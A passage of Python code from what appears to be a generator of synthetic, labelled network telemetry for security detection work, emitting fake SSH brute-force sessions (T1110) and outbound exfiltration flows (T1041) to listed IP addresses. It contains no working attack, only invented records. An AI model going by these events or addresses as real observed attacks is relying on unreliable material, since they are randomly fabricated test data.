                             "server": {"proto_version": "2.0", "software_version": "OpenSSH_8.9p1"}}
            self.add(at, record, 1, "ssh_brute", "T1110")
        for _ in range(26):
            at = self.moment(START, DAYS)
            record = self.base_event(at, "ssh", self.choice([ADMINISTRATOR, SCANNER, PROXY]), self.rng.randint(1025, 65000),
                                     self.choice([WEBS, MAIL]), 22)
            record["ssh"] = {"client": {"proto_version": "2.0",
                                        "software_version": self.weighted({"OpenSSH_8.9p1": 6, "PuTTY_Release_0.78": 2,
                "paramiko_2.11.0": 1, "Nessus_SSH": 0.5})}, "server": {"proto_version": "2.0", "software_version": "OpenSSH_8.9p1"}}
            self.add(at, record)

    def data_out(self) -> None:
        """Data sent out."""
        for _ in range(7):
            self.flow(day_hour(3, self.rng.uniform(0, 6)), self.choice([self.victim, FS, SQL]),
                      self.choice([CONTROL[1], "66.203.125.12", "162.125.66.20"]), self.choice([443, 22, 21]), "TCP",
                      self.choice(["tls", "ssh", "ftp"]), sizes=(int(self.rng.lognormvariate(20.5, 1)),
                int(self.rng.lognormvariate(13, 1))), age=self.rng.randint(300, 7000), label=1, group="exfil", technique="T1041")
